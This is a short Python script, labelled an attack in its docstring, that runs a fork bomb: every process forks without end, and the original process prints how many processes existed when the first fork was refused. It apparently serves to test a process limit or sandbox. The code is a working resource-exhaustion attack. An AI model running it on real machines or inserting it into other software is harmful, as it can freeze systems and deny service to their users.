"""Attack: a fork bomb. Every process forks for ever; the first refusal is reported."""

import os
import time

first = os.getpid()
while True:
    try:
        if os.fork() == 0:
            continue  # the child forks too
    except OSError as exc:
        if os.getpid() == first:
            count = sum(p.isdigit() for p in os.listdir("/proc"))
            print(f"blocked fork at {count} processes: {exc}", flush=True)
            first = None  # report once
        time.sleep(0.05)
